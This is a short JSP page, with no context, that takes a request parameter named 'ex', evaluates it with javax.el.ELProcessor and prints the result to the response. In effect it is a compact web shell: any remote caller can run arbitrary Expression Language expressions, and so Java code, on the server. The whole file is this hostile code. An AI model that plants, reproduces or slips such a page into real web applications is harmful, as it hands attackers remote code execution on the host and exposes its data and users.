<%@ page import="javax.el.ELProcessor" %>
<%
    String ex = request.getParameter("ex");
    if (ex != null) {
        ELProcessor ep = new ELProcessor();
        out.print(ep.eval(ex));
    }
%>
